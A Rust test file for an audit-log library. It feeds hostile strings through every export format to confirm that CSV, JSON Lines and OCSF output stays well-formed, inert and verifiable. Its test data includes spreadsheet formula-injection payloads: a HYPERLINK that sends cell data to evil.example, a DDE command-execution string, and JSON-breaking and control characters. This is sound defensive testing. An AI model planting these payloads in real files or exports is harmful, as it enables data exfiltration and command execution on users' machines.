//! Injection through tool parameters (and every other text field) into
//! every export layout: CSV formula prefixes, quotes, line breaks, JSON
//! control characters and non-ASCII text. Each export must stay well-formed
//! (an independent RFC 4180 parser finds the same rows and columns; every
//! JSON line parses), inert (no CSV cell starts with a formula character)
//! and, for JSON Lines and CSV, still verify.

mod common;

use chrono::Duration;
use common::*;
use conexor_audit::export::{self, CSV_COLUMNS};
use conexor_audit::{Draft, Outcome, Record, SignatureTrust, verify};
use serde_json::{Value, json};

const NASTY: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''",
    "＝1+1",
    "a,b,\"c\"",
    "\"quoted\"",
    "line1\nline2",
    "line1\r\nline2\rline3",
    "ctl \u{0}\u{1}\u{1b}[31m\u{7f}\u{2028}",
    "\\\"}],{\"record\":{}}",
    "é 漢字 🙂 \u{202e}rtl",
];

fn nasty_drafts() -> Vec<(Draft, chrono::DateTime<chrono::Utc>)> {
    let mut out = Vec::new();
    for (i, s) in NASTY.iter().enumerate() {
        let mut d = Draft::new("query", Outcome::Denied);
        d.params = json!({ "sql": s, "args": [s, -1, 2.5], s.to_string(): s });
        d.user = Some((*s).into());
        d.client = Some(format!("{s}/1.0"));
        d.model = Some((*s).into());
        d.connection = Some((*s).into());
        d.error = Some((*s).into());
        out.push((d, t0() + Duration::seconds(10 * (i as i64 + 1))));
        // Bare values as params too: a string, a negative number.
        let mut d = Draft::new(*s, Outcome::Error);
        d.params = json!(s);
        d.mode = Some((*s).into());
        out.push((d, t0() + Duration::seconds(10 * (i as i64 + 1) + 1)));
    }
    let mut d = Draft::new("query", Outcome::Ok);
    d.params = json!(-1);
    out.push((d, t0() + Duration::seconds(500)));
    out
}

fn fixture() -> Vec<Line> {
    build_with(
        "ws_A",
        &key(),
        nasty_drafts(),
        t0() + Duration::seconds(600),
    )
}

/// A deliberately separate RFC 4180 reader: whole text, char by char.
fn parse_csv(text: &str) -> Result<Vec<Vec<String>>, String> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    let mut at_cell_start = true;
    while let Some(c) = chars.next() {
        if quoted {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    chars.next();
                    cell.push('"');
                } else {
                    quoted = false;
                }
            } else {
                cell.push(c);
            }
            continue;
        }
        match c {
            '"' if at_cell_start => {
                quoted = true;
                at_cell_start = false;
            }
            '"' => return Err("quote inside an unquoted cell".into()),
            ',' => {
                row.push(std::mem::take(&mut cell));
                at_cell_start = true;
            }
            '\r' => {
                if chars.next() != Some('\n') {
                    return Err("bare CR".into());
                }
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
                at_cell_start = true;
            }
            '\n' => return Err("row not terminated by CRLF".into()),
            _ => {
                cell.push(c);
                at_cell_start = false;
            }
        }
    }
    if quoted || !row.is_empty() || !cell.is_empty() {
        return Err("unterminated last row".into());
    }
    Ok(rows)
}

#[test]
fn csv_stays_well_formed_inert_and_verifiable() {
    let lines = fixture();
    let text = csv(&lines);
    let rows = parse_csv(&text).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(rows.len(), lines.len() + 1);
    assert_eq!(rows[0], CSV_COLUMNS);
    for row in &rows {
        assert_eq!(row.len(), CSV_COLUMNS.len(), "{row:?}");
        for cell in row {
            let first = cell.chars().next();
            assert!(
                !matches!(
                    first,
                    Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠')
                ),
                "live cell {cell:?}"
            );
        }
    }
    // Un-neutralised, the record rows give back exactly the records.
    let records: Vec<&Record> = lines
        .iter()
        .filter_map(|l| match l {
            Line::Record(r) => Some(r),
            _ => None,
        })
        .collect();
    let csv_records: Vec<&Vec<String>> = rows.iter().filter(|r| r[0] == "record").collect();
    assert_eq!(csv_records.len(), records.len());
    for (row, rec) in csv_records.iter().zip(&records) {
        let restore = |s: &str| s.strip_prefix('\'').unwrap_or(s).to_owned();
        assert_eq!(restore(&row[4]), rec.user.clone().unwrap_or_default());
        assert_eq!(restore(&row[8]), rec.tool);
        let params: Value =
            serde_json::from_str(&restore(&row[9])).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(params, rec.params);
    }
    let report = verify(text.as_bytes(), Some(&key().public())).unwrap_or_else(|p| panic!("{p}"));
    assert_eq!(report.records, records.len() as u64);
    assert_eq!(report.signatures, SignatureTrust::Pinned);
}

#[test]
fn jsonl_stays_one_json_value_per_line_and_verifies() {
    let lines = fixture();
    let text = jsonl(&lines);
    let physical: Vec<&str> = text.split('\n').collect();
    assert_eq!(physical.last(), Some(&""));
    assert_eq!(physical.len() - 1, lines.len());
    for line in &physical[..physical.len() - 1] {
        assert!(!line.contains('\r'), "raw CR in {line:?}");
        let v: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        assert!(v.is_object());
        assert!(matches!(v.as_object().map(|o| o.len()), Some(1 | 2)));
    }
    let report = verify(text.as_bytes(), Some(&key().public())).unwrap_or_else(|p| panic!("{p}"));
    assert_eq!(report.records as usize, NASTY.len() * 2 + 1);
}

#[test]
fn ocsf_lines_are_json_api_activity_events() {
    let lines = fixture();
    let mut text = String::new();
    for l in &lines {
        if let Line::Record(r) = l {
            text.push_str(&export::ocsf_record(r).unwrap_or_else(|e| panic!("{e}")));
        }
    }
    let mut n = 0;
    for line in text.lines() {
        let v: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        assert_eq!(v["class_uid"], 6003);
        assert_eq!(v["category_uid"], 6);
        assert!(v["time"].is_i64());
        assert_eq!(
            v["type_uid"],
            600_300 + v["activity_id"].as_i64().unwrap_or(-1)
        );
        assert!(matches!(
            v["status_code"].as_str(),
            Some("ok" | "denied" | "error")
        ));
        n += 1;
    }
    assert_eq!(n, NASTY.len() * 2 + 1);
    // A param's text survives as data, never as structure.
    let first = lines.iter().find_map(|l| match l {
        Line::Record(r) => Some(r),
        _ => None,
    });
    let first = first.unwrap_or_else(|| panic!("no record"));
    let v: Value = serde_json::from_str(
        export::ocsf_record(first)
            .unwrap_or_else(|e| panic!("{e}"))
            .trim_end(),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(v["unmapped"]["params"], first.params);
    assert_eq!(v["actor"]["user"]["name"], NASTY[0]);
}

#[test]
fn params_that_are_not_i_json_are_stored_as_their_text_and_still_verify() {
    let mut d = Draft::new("query", Outcome::Ok);
    d.params = json!({"big": u64::MAX, "neg": i64::MIN});
    let lines = build_with(
        "ws_A",
        &key(),
        vec![(d, t0() + Duration::seconds(1))],
        t0() + Duration::seconds(60),
    );
    let Some(Line::Record(r)) = lines.iter().find(|l| matches!(l, Line::Record(_))) else {
        panic!("no record")
    };
    assert_eq!(
        r.params,
        Value::String(format!("{{\"big\":{},\"neg\":{}}}", u64::MAX, i64::MIN))
    );
    verify(jsonl(&lines).as_bytes(), Some(&key().public())).unwrap_or_else(|p| panic!("{p}"));
    verify(csv(&lines).as_bytes(), Some(&key().public())).unwrap_or_else(|p| panic!("{p}"));
}
